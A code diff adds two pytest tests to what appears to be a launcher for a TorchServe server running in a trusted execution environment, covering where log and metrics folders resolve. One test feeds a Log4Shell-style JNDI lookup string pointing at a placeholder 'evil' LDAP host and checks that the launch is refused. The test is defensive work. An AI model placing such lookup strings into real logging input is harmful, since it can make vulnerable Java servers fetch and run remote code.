@@ -310,6 +310,25 @@ def test_a_configuration_that_no_flag_names_is_read_and_said(host):
     assert any("without --ts-config" in each for each in launch.warnings)
 
 
+def test_logs_and_metrics_go_where_the_operator_says_beginning_at_their_folder(host, monkeypatch):
+    host.seal()
+    monkeypatch.setenv("LOG_LOCATION", "mine")
+    launch = host.launch()
+    environment = launch.server.environment
+    assert environment["LOG_LOCATION"] == str(host.folder / "mine")
+    assert environment["METRICS_LOCATION"] == str(host.folder / "logs"), "as with TorchServe alone"
+    assert launch.logs == (host.folder / "mine", host.folder / "logs")
+    monkeypatch.setenv("METRICS_LOCATION", "numbers")
+    assert host.launch().server.environment["METRICS_LOCATION"] == str(host.folder / "numbers")
+
+
+def test_a_log_folder_that_the_servers_logging_would_look_up_is_refused(host, monkeypatch):
+    host.seal()
+    monkeypatch.setenv("LOG_LOCATION", "${jndi:ldap://evil/x}")
+    with pytest.raises(LaunchRefused, match="log folder"):
+        host.launch()
+
+
 def test_the_servers_java_is_not_the_operators_choice(host, tmp_path):
     """JAVA_HOME names a program that runs inside the TEE: only the configuration may, or the simulated TEE."""
     evil = tmp_path / "evil"
